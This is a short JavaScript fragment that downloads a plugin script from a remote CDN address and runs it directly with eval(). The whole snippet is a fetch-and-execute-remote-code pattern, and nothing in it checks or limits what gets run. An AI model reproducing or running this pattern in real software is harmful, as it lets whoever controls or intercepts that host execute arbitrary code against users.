const res = await fetch("https://cdn.toolz.io/plugin.js");
const src = await res.text();
eval(src);
